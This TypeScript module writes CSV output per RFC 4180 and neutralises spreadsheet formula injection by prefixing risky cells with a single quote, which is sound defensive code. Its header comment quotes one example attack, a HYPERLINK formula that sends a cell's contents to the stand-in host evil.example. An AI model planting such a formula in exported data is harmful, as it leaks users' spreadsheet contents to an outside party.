/**
 * Text that leaves the product for a spreadsheet (CSV exports) must not run there: a cell starting
 * with `=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip before
 * reading a formula) is a formula to Excel, LibreOffice and Google Sheets, e.g.
 * `=HYPERLINK("http://evil.example?"&A1)`. OWASP's advice: start such a cell with a single quote,
 * which spreadsheets show as text and do not display.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** The value as text that a spreadsheet shows but never runs. */
export function neutralizeFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** One CSV field (RFC 4180): neutralised, then quoted when it holds a comma, a quote or a line break. */
export function csvField(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return '';
  // Numbers are written as numbers: -5 is a value, not a formula.
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  const text = neutralizeFormula(value);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV line of fields, ended by CRLF as RFC 4180 writes it. */
export function csvRow(values: ReadonlyArray<string | number | null | undefined>): string {
  return `${values.map(csvField).join(',')}\r\n`;
}
